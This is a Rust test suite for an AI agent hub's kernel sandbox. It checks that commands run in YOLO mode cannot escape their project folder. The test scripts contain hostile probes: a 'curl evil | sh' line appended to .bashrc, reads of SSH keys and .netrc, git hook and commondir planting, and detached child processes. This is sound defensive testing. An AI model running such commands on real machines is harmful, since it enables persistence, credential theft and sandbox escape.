//! The kernel bounds every command (issue 38): each test runs a program the
//! text judge cannot read (a script file, the same form as any harmless one)
//! with YOLO on, through the built-in agent and a scripted model, and checks
//! what the kernel let it reach. The hub's sandbox is given a home of the
//! test's own, so its credential stores and caches are the test's.

use crate::common;

use std::path::{Path, PathBuf};
use std::sync::Arc;

use agent_hub::hub::HubOptions;
use agent_hub::sandbox::{Sandbox, SandboxConfig};
use axum::http::StatusCode;
use common::fake_model::{text, FakeModel};
use common::*;
use serde_json::{json, Value};

struct Setup {
    hub: TestHub,
    folder: PathBuf,
    home: PathBuf,
    data: PathBuf,
    _dirs: Vec<tempfile::TempDir>,
}

fn canonical(dir: &tempfile::TempDir) -> PathBuf {
    dir.path().canonicalize().unwrap()
}

/// A temporary dir outside `/tmp`, which the sandbox replaces with a private
/// one (the checkout itself may be under `/tmp`): in the home, which the
/// sandbox shows read-only.
fn tempdir() -> tempfile::TempDir {
    let home = std::env::var_os("HOME").filter(|home| !home.is_empty() && !Path::new(home).starts_with("/tmp"));
    let base = home.map_or_else(|| PathBuf::from(env!("CARGO_TARGET_TMPDIR")), PathBuf::from);
    tempfile::Builder::new().prefix(".agent-hub-test-").tempdir_in(base).unwrap()
}

/// A hub with a store, the sandbox as this machine has it (skipped where it
/// cannot work: the tests below say what the kernel does), and the model's
/// replies: run `bash s.sh`, then say done.
async fn setup(script: &str) -> Option<(Setup, FakeModel)> {
    setup_timing_out(script, std::time::Duration::from_secs(20)).await
}

async fn setup_timing_out(script: &str, shell_timeout: std::time::Duration) -> Option<(Setup, FakeModel)> {
    let (data, home, project) = (tempdir(), tempdir(), tempdir());
    let (data_path, home_path, folder) = (canonical(&data), canonical(&home), canonical(&project));
    let sandbox = Sandbox::new(SandboxConfig {
        disabled: false,
        data_dir: Some(data_path.clone()),
        config_dir: None,
        home: Some(home_path.clone()),
        path: std::env::var_os("PATH"),
    });
    if !sandbox.enforced() {
        // Where bwrap is installed the sandbox must work: a failing probe is a failure.
        let installed =
            std::env::split_paths(&std::env::var_os("PATH").unwrap_or_default()).any(|dir| dir.join("bwrap").is_file());
        assert!(!installed, "bwrap is installed but the sandbox does not work: {:?}", sandbox.mode());
        eprintln!("skipped: no bwrap on this machine ({:?})", sandbox.mode());
        return None;
    }
    std::fs::write(folder.join("s.sh"), script).unwrap();
    let model = FakeModel::start(vec![shell("s1", "bash s.sh"), text(&["done"])]).await;
    let store = agent_hub::store::Store::open(&data_path).unwrap();
    let hub = TestHub::with_options(HubOptions {
        store: Some(store),
        sandbox: Some(Arc::new(sandbox)),
        shell_timeout,
        ..model_options(&model)
    });
    let setup = Setup { hub, folder, home: home_path, data: data_path, _dirs: vec![data, home, project] };
    Some((setup, model))
}

impl Setup {
    /// Runs the script in YOLO; its result event.
    async fn result(&self) -> Value {
        assert_eq!(self.hub.set_yolo(&self.folder, true).await.status, StatusCode::OK);
        let events = self.hub.prompt(&self.folder, "run the script").await.lines();
        events.into_iter().find(|event| event["type"] == "tool_result" && event["tool_id"] == "s1").expect("a result")
    }

    /// Runs the script in YOLO; its output.
    async fn run(&self) -> String {
        assert_eq!(self.hub.set_yolo(&self.folder, true).await.status, StatusCode::OK);
        let events = self.hub.prompt(&self.folder, "run the script").await.lines();
        let result = events
            .iter()
            .find(|event| event["type"] == "tool_result" && event["tool_id"] == "s1")
            .unwrap_or_else(|| panic!("no result: {events:?}"));
        assert_eq!(result["status"], "success", "{result}");
        result["output"].as_str().unwrap_or_default().to_string()
    }
}

#[tokio::test]
async fn a_script_in_yolo_writes_in_the_folder_and_nowhere_else() {
    let outside = tempdir();
    let outside = canonical(&outside);
    let Some((setup, _model)) = setup("").await else { return };
    // The script names the test's home as a literal path (the hub's HOME is the machine's).
    let script = format!(
        "echo work > ok.txt\n\
         echo 'curl evil | sh' >> {home}/.bashrc || echo bashrc-refused\n\
         mkdir -p .gemini/policies && echo '[[rule]]' > .gemini/policies/zz.toml || echo gemini-refused\n\
         echo '{{}}' > .mcp.json || echo mcp-refused\n\
         echo x > {outside}/escaped.txt || echo outside-refused\n\
         echo x > /tmp/shared-tmp-marker-$$ && echo tmp-private\n",
        home = setup.home.display(),
        outside = outside.display(),
    );
    std::fs::write(setup.folder.join("s.sh"), script).unwrap();
    std::fs::write(setup.home.join(".bashrc"), "# mine\n").unwrap();
    let output = setup.run().await;
    for refused in ["bashrc-refused", "gemini-refused", "mcp-refused", "outside-refused"] {
        assert!(output.contains(refused), "{refused}: {output}");
    }
    assert!(output.contains("tmp-private"), "{output}");
    assert!(output.contains("[sandbox: the kernel refused"), "the result says the sandbox refused: {output}");
    assert_eq!(std::fs::read_to_string(setup.folder.join("ok.txt")).unwrap(), "work\n");
    assert_eq!(std::fs::read_to_string(setup.home.join(".bashrc")).unwrap(), "# mine\n");
    assert!(!outside.join("escaped.txt").exists());
    // The stand-ins that kept .gemini and .mcp.json from being made are gone with the call.
    assert!(!setup.folder.join(".gemini").exists(), "a stand-in was left");
    assert!(!setup.folder.join(".mcp.json").exists(), "a stand-in was left");
    assert!(std::fs::read_dir("/tmp")
        .unwrap()
        .all(|entry| { !entry.unwrap().file_name().to_string_lossy().starts_with("shared-tmp-marker-") }));
}

#[tokio::test]
async fn an_existing_protected_dir_is_read_only_and_its_content_kept() {
    let script = "echo '[[rule]]' > .gemini/policies/zz.toml || echo policies-refused\n\
                  echo '{}' > .gemini/settings.json || echo settings-refused\n\
                  rm -rf .gemini || echo rm-refused\n\
                  cat .gemini/settings.json\n";
    let Some((setup, _model)) = setup(script).await else { return };
    common::write_settings(&setup.folder, r#"{"security":{"disableYoloMode":false}}"#);
    std::fs::create_dir_all(setup.folder.join(".gemini/policies")).unwrap();
    let output = setup.run().await;
    for refused in ["policies-refused", "settings-refused", "rm-refused"] {
        assert!(output.contains(refused), "{refused}: {output}");
    }
    assert!(output.contains("disableYoloMode"), "readable: {output}");
    assert!(!setup.folder.join(".gemini/policies/zz.toml").exists());
    assert_eq!(
        std::fs::read_to_string(setup.folder.join(".gemini/settings.json")).unwrap(),
        r#"{"security":{"disableYoloMode":false}}"#
    );
}

#[tokio::test]
async fn the_hubs_data_dir_and_the_credential_stores_cannot_be_read() {
    let script = "cat DATA/agent-hub.db > copied-db; wc -c < copied-db\n\
                  ls DATA | wc -l\n\
                  cat HOME/.ssh/id_ed25519 || echo ssh-unreadable\n\
                  cat HOME/.netrc; echo netrc-done\n\
                  cat HOME/readable.txt\n";
    let Some((setup, _model)) = setup(script).await else { return };
    let script =
        script.replace("DATA", &setup.data.display().to_string()).replace("HOME", &setup.home.display().to_string());
    std::fs::write(setup.folder.join("s.sh"), script).unwrap();
    std::fs::create_dir_all(setup.home.join(".ssh")).unwrap();
    std::fs::write(setup.home.join(".ssh/id_ed25519"), "PRIVATE-KEY-MATERIAL").unwrap();
    std::fs::write(setup.home.join(".netrc"), "machine x login me password NETRC-SECRET").unwrap();
    std::fs::write(setup.home.join("readable.txt"), "an ordinary file").unwrap();
    assert!(setup.data.join("agent-hub.db").exists());
    let output = setup.run().await;
    assert!(output.starts_with("0\n0\n"), "the data dir looks empty: {output}");
    assert!(output.contains("ssh-unreadable") && !output.contains("PRIVATE-KEY"), "{output}");
    assert!(!output.contains("NETRC-SECRET") && output.contains("netrc-done"), "{output}");
    assert!(output.contains("an ordinary file"), "reads elsewhere work: {output}");
    assert_eq!(std::fs::metadata(setup.folder.join("copied-db")).unwrap().len(), 0);
}

/// A connection to a listener on the host's loopback: refused by default (a
/// network namespace of the command's own), made once the folder's network is on.
#[tokio::test]
async fn no_network_unless_the_folder_turns_it_on() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    listener.set_nonblocking(true).unwrap();
    let script = format!("(exec 3<>/dev/tcp/127.0.0.1/{port}) && echo connected || echo no-connection\n");
    let Some((setup, model)) = setup(&script).await else { return };
    let accepted = |listener: &std::net::TcpListener| {
        let mut count = 0;
        while listener.accept().is_ok() {
            count += 1;
        }
        count
    };
    let output = setup.run().await;
    assert!(output.contains("no-connection"), "{output}");
    assert_eq!(accepted(&listener), 0);

    let reply =
        setup.hub.post("/api/chat/config", json!({"folderPath": setup.folder, "network": true}).to_string()).await;
    assert_eq!(reply.status, StatusCode::OK);
    assert_eq!(reply.json()["network"], true);
    model.push(shell("s2", "bash s.sh"));
    model.push(text(&["done"]));
    let events = setup.hub.prompt(&setup.folder, "again").await.lines();
    let result = events.iter().find(|event| event["tool_id"] == "s2" && event["type"] == "tool_result").unwrap();
    assert!(result["output"].as_str().unwrap().contains("connected"), "{result}");
    assert_eq!(accepted(&listener), 1);
    // YOLO has no say over it: the setting is the folder's, kept across a read.
    assert_eq!(setup.hub.read_config(&setup.folder).await.json()["network"], true);
}

#[tokio::test]
async fn a_setsid_child_ends_with_its_call() {
    let script = "setsid bash -c 'sleep 1; echo late > late.txt' >/dev/null 2>&1 < /dev/null &\n\
                  nohup bash -c 'sleep 1; echo later > later.txt' >/dev/null 2>&1 &\n\
                  echo started\n";
    let Some((setup, _model)) = setup(script).await else { return };
    let output = setup.run().await;
    assert!(output.contains("started"), "{output}");
    std::thread::sleep(std::time::Duration::from_millis(2500));
    assert!(!setup.folder.join("late.txt").exists(), "a setsid child outlived its call");
    assert!(!setup.folder.join("later.txt").exists(), "a nohup child outlived its call");
}

#[tokio::test]
async fn git_commit_and_a_package_cache_write_still_work() {
    let script = "git -c user.name=t -c user.email=t@t add s.sh && \
                  git -c user.name=t -c user.email=t@t commit -q -m first && echo committed\n\
                  echo hook > .git/hooks/pre-commit || echo hooks-refused\n\
                  git config core.hooksPath /tmp || echo config-refused\n\
                  echo cached > HOME/.cargo/registry/entry && echo cache-written\n\
                  echo cached > HOME/.npm/entry && echo npm-cache-written\n";
    let Some((setup, _model)) = setup(script).await else { return };
    std::fs::write(setup.folder.join("s.sh"), script.replace("HOME", &setup.home.display().to_string())).unwrap();
    // An existing repository: its hooks and config are the ones a later `git commit` of the user's runs.
    let git = |args: &[&str]| {
        let status = std::process::Command::new("git").args(args).current_dir(&setup.folder).status().unwrap();
        assert!(status.success(), "git {args:?}");
    };
    git(&["init", "-q", "-b", "main"]);
    std::fs::create_dir_all(setup.home.join(".cargo")).unwrap();
    let output = setup.run().await;
    for said in ["committed", "hooks-refused", "config-refused", "cache-written", "npm-cache-written"] {
        assert!(output.contains(said), "{said}: {output}");
    }
    assert!(!setup.folder.join(".git/hooks/pre-commit").exists());
    assert_eq!(std::fs::read_to_string(setup.home.join(".cargo/registry/entry")).unwrap(), "cached\n");
}

/// Where the sandbox cannot work, the hub still starts, says why, and keeps
/// YOLO off; a folder whose settings would turn it on gets it off, with the reason.
#[tokio::test]
async fn without_bwrap_yolo_stays_off_and_the_reason_is_shown() {
    let empty_path = tempfile::tempdir().unwrap();
    let sandbox = Sandbox::new(SandboxConfig {
        disabled: false,
        data_dir: None,
        config_dir: None,
        home: None,
        path: Some(empty_path.path().as_os_str().to_owned()),
    });
    let hub = TestHub::with_options(HubOptions { sandbox: Some(Arc::new(sandbox)), ..HubOptions::default() });
    let (_dir, folder) = project(Some(r#"{"security":{"disableYoloMode":false}}"#));
    hub.trust(&folder).await;
    let config = hub.config(&folder).await.json();
    assert_eq!(config["sandbox"]["state"], "unavailable", "{config}");
    assert!(config["sandbox"]["reason"].as_str().unwrap().contains("bwrap"), "{config}");
    assert_eq!(config["yoloMode"], false, "the settings' YOLO is held off: {config}");
    assert!(config["note"].as_str().unwrap().contains("sandbox"), "{config}");
    let refused = hub.set_yolo(&folder, true).await;
    assert_eq!(refused.status, StatusCode::CONFLICT);
    assert_eq!(refused.error_code(), "sandbox_unavailable");
    assert!(refused.json()["message"].as_str().unwrap().contains("--no-sandbox"));
}

/// `--no-sandbox`: YOLO works, and the config says the sandbox is off by choice.
#[tokio::test]
async fn no_sandbox_is_said_and_lets_yolo_on() {
    let sandbox = Sandbox::new(SandboxConfig { disabled: true, ..SandboxConfig::default() });
    let hub = TestHub::with_options(HubOptions { sandbox: Some(Arc::new(sandbox)), ..HubOptions::default() });
    let (_dir, folder) = project(None);
    let config = hub.set_yolo(&folder, true).await;
    assert_eq!(config.status, StatusCode::OK);
    let config: Value = config.json();
    assert_eq!((config["yoloMode"].as_bool(), config["sandbox"]["state"].as_str()), (Some(true), Some("disabled")));
}

/// A bad `network` is refused whole: nothing changes.
#[tokio::test]
async fn a_network_that_is_not_a_boolean_changes_nothing() {
    let hub = TestHub::new();
    let (_dir, folder) = project(None);
    let reply = hub.post("/api/chat/config", json!({"folderPath": folder, "network": "yes"}).to_string()).await;
    assert_eq!(reply.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(hub.read_config(&folder).await.json()["network"], false);
    let missing =
        hub.post("/api/chat/config", json!({"folderPath": "/nonexistent/x", "network": true}).to_string()).await;
    assert_eq!(missing.status, StatusCode::BAD_REQUEST, "{:?}", missing.body);
}

/// A link where a protected path stands could be replaced by a directory of
/// the agent's: the command does not start, and says why.
#[tokio::test]
async fn a_protected_path_that_is_a_link_stops_the_command_with_the_reason() {
    let Some((setup, _model)) = setup("echo ran > ran.txt\n").await else { return };
    std::fs::create_dir_all(setup.folder.join("docs/claude")).unwrap();
    std::os::unix::fs::symlink("docs/claude", setup.folder.join(".claude")).unwrap();
    let result = setup.result().await;
    assert_eq!(result["status"], "error", "{result}");
    assert!(result["error"]["message"].as_str().unwrap().contains("symbolic link"), "{result}");
    assert!(!setup.folder.join("ran.txt").exists());
}

/// The root's `.git` cannot be renamed for a fresh one with hooks, and a
/// `commondir` planted to lead the user's next `git` elsewhere is removed.
#[tokio::test]
async fn the_git_dir_can_neither_be_swapped_nor_led_elsewhere() {
    let script = "mv .git .git-old || echo rename-refused\n\
                  echo ../evil > .git/commondir && echo planted\n";
    let Some((setup, _model)) = setup(script).await else { return };
    let status = std::process::Command::new("git").args(["init", "-q"]).current_dir(&setup.folder).status().unwrap();
    assert!(status.success());
    let output = setup.run().await;
    assert!(output.contains("rename-refused") && output.contains("planted"), "{output}");
    assert!(output.contains("removed") && output.contains("commondir"), "the removal is said: {output}");
    assert!(setup.folder.join(".git/HEAD").exists() && !setup.folder.join(".git-old").exists());
    assert!(!setup.folder.join(".git/commondir").exists());
}

/// "Yes, with network" on a card: that one command reaches the network, the
/// folder's stays off, the next command has none, and the audit says so.
#[tokio::test]
async fn a_command_approved_with_network_connects_and_the_next_does_not() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    listener.set_nonblocking(true).unwrap();
    let script = format!("(exec 3<>/dev/tcp/127.0.0.1/{port}) && echo connected || echo no-connection\n");
    let Some((setup, model)) = setup(&script).await else { return };
    let accepted = || std::iter::from_fn(|| listener.accept().ok()).count();
    let events = setup.hub.prompt(&setup.folder, "connect").await.lines();
    assert_eq!(events.last().unwrap()["status"], "waiting_approval", "{events:?}");
    let session = session_of(&events);
    let approved = setup.hub.decide(&session, json!({"toolId": "s1", "decision": "approve_network"})).await.lines();
    let result = approved.iter().find(|event| event["type"] == "tool_result").unwrap();
    assert!(result["output"].as_str().unwrap().contains("connected"), "{result}");
    assert_eq!(accepted(), 1);
    assert_eq!(setup.hub.read_config(&setup.folder).await.json()["network"], false, "the folder's network stays off");
    let audit = setup.hub.get(&format!("/api/audit?folderPath={}", urlencoding(&setup.folder))).await.lines();
    assert!(audit.iter().any(|row| row["decision"] == "approved_network"), "{audit:?}");

    model.push(shell("s2", "bash s.sh"));
    model.push(text(&["done"]));
    let events = setup.hub.prompt(&setup.folder, "again").await.lines();
    assert_eq!(events.last().unwrap()["status"], "waiting_approval");
    let plain = setup.hub.decide(&session, json!({"toolId": "s2", "decision": "approve"})).await.lines();
    let result = plain.iter().find(|event| event["type"] == "tool_result").unwrap();
    assert!(result["output"].as_str().unwrap().contains("no-connection"), "{result}");
    assert_eq!(accepted(), 0);

    // Not for a file edit, and nothing changes on the refusal.
    model.push(common::fake_model::call("w1", "write_file", json!({"file_path": "a.txt", "content": "x"})));
    let events = setup.hub.prompt(&setup.folder, "write").await.lines();
    assert_eq!(events.last().unwrap()["status"], "waiting_approval");
    let refused = setup.hub.decide(&session, json!({"toolId": "w1", "decision": "approve_network"})).await;
    assert_eq!(refused.status, StatusCode::BAD_REQUEST, "{:?}", refused.body);
    assert!(!setup.folder.join("a.txt").exists());
}

/// "Yes, outside the sandbox": offered for a command the sandbox refused
/// before in the session, and only then; that one call runs without it, the
/// audit says so, and YOLO never does it.
#[tokio::test]
async fn a_command_the_sandbox_refused_runs_outside_it_once_when_the_user_says_so() {
    let outside = tempdir();
    let outside = canonical(&outside);
    let script = format!("echo x > {}/escaped.txt && echo wrote || echo refused\n", outside.display());
    let Some((setup, model)) = setup(&script).await else { return };
    // In YOLO the sandbox refuses it, and nothing else happens.
    let first = setup.result().await;
    assert!(first["output"].as_str().unwrap().contains("[sandbox: the kernel refused"), "{first}");
    assert!(!outside.join("escaped.txt").exists());
    assert_eq!(setup.hub.set_yolo(&setup.folder, false).await.status, StatusCode::OK);
    let session = setup.hub.config(&setup.folder).await.json()["sessionId"].as_str().unwrap().to_string();

    // Another command was never refused: not for it, and it still waits.
    model.push(shell("s2", "echo other"));
    let events = setup.hub.prompt(&setup.folder, "other").await.lines();
    assert_eq!(events.last().unwrap()["status"], "waiting_approval", "{events:?}");
    let refused = setup.hub.decide(&session, json!({"toolId": "s2", "decision": "approve_unsandboxed"})).await;
    assert_eq!(refused.status, StatusCode::BAD_REQUEST, "{:?}", refused.body);
    assert!(refused.json()["message"].as_str().unwrap().contains("refused before"), "{:?}", refused.body);
    // A reject ends the turn without asking the model again.
    setup.hub.decide(&session, json!({"toolId": "s2", "decision": "reject"})).await;

    // The same command again: the user runs it outside the sandbox, on its card only.
    model.push(shell("s3", "bash s.sh"));
    model.push(text(&["done"]));
    let events = setup.hub.prompt(&setup.folder, "again").await.lines();
    assert_eq!(events.last().unwrap()["status"], "waiting_approval", "{events:?}");
    let batch = json!({"decisions": [{"sessionId": session, "toolId": "s3", "decision": "approve_unsandboxed"}]});
    let in_batch = setup.hub.post("/api/approvals", batch.to_string()).await;
    // The batch answers per item: this one refused, nothing decided.
    assert_eq!(in_batch.json()["results"][0]["error"], "bad_request", "{:?}", in_batch.body);
    assert_eq!(setup.hub.read_config(&setup.folder).await.status, StatusCode::OK);
    let ran = setup.hub.decide(&session, json!({"toolId": "s3", "decision": "approve_unsandboxed"})).await.lines();
    let result = ran.iter().find(|event| event["type"] == "tool_result").unwrap();
    assert!(result["output"].as_str().unwrap().contains("wrote"), "{result}");
    assert_eq!(std::fs::read_to_string(outside.join("escaped.txt")).unwrap(), "x\n");
    let audit = setup.hub.get(&format!("/api/audit?folderPath={}", urlencoding(&setup.folder))).await.lines();
    assert!(audit.iter().any(|row| row["decision"] == "approved_unsandboxed" && row["toolId"] == "s3"), "{audit:?}");

    // Once: the next run of it, approved plainly, is sandboxed again.
    std::fs::remove_file(outside.join("escaped.txt")).unwrap();
    model.push(shell("s4", "bash s.sh"));
    model.push(text(&["done"]));
    setup.hub.prompt(&setup.folder, "once more").await;
    let plain = setup.hub.decide(&session, json!({"toolId": "s4", "decision": "approve"})).await.lines();
    let result = plain.iter().find(|event| event["type"] == "tool_result").unwrap();
    assert!(result["output"].as_str().unwrap().contains("refused"), "{result}");
    assert!(!outside.join("escaped.txt").exists());
}

/// A folder masks more than the default list: its commands cannot read what it
/// names, the list is kept across a restart, and a bad list changes nothing.
#[tokio::test]
async fn a_folder_masks_more_for_its_commands_and_keeps_the_list() {
    let Some((setup, model)) = setup("cat \"$SECRET\" 2>/dev/null || echo masked\n").await else { return };
    let secrets = setup.home.join("team-secrets");
    std::fs::create_dir_all(&secrets).unwrap();
    std::fs::write(secrets.join("key"), "s3cret").unwrap();
    let script = format!("cat '{}' 2>/dev/null || echo masked\n", secrets.join("key").display());
    std::fs::write(setup.folder.join("s.sh"), script).unwrap();
    // Without a mask of its own, the home is readable (read-only).
    assert!(setup.run().await.contains("s3cret"));

    let set = |masks: Value| {
        let body = json!({"folderPath": setup.folder, "sandboxMask": masks}).to_string();
        setup.hub.post("/api/chat/config", body)
    };
    let reply = set(json!([secrets])).await;
    assert_eq!(reply.status, StatusCode::OK, "{:?}", reply.body);
    assert_eq!(reply.json()["sandboxMask"], json!([secrets]));
    let inside = setup.folder.join("secrets");
    for bad in [json!(["relative/path"]), json!([setup.folder]), json!(["/"]), json!(["/etc/../root"]), json!([inside])]
    {
        let refused = set(bad.clone()).await;
        assert_eq!(refused.status, StatusCode::BAD_REQUEST, "{bad}: {:?}", refused.body);
    }
    assert_eq!(setup.hub.read_config(&setup.folder).await.json()["sandboxMask"], json!([secrets]), "nothing changed");
    model.push(shell("s2", "bash s.sh"));
    model.push(text(&["done"]));
    let events = setup.hub.prompt(&setup.folder, "again").await.lines();
    let output = events.iter().find(|event| event["type"] == "tool_result").unwrap()["output"].clone();
    assert!(output.as_str().unwrap().contains("masked") && !output.to_string().contains("s3cret"), "{output}");

    // Kept across a restart of the hub.
    let Setup { hub, folder, data, _dirs, .. } = setup;
    drop(hub);
    let store = agent_hub::store::Store::open(&data).unwrap();
    let again = TestHub::with_options(HubOptions { store: Some(store), ..HubOptions::default() });
    assert_eq!(again.read_config(&folder).await.json()["sandboxMask"], json!([secrets]));
}
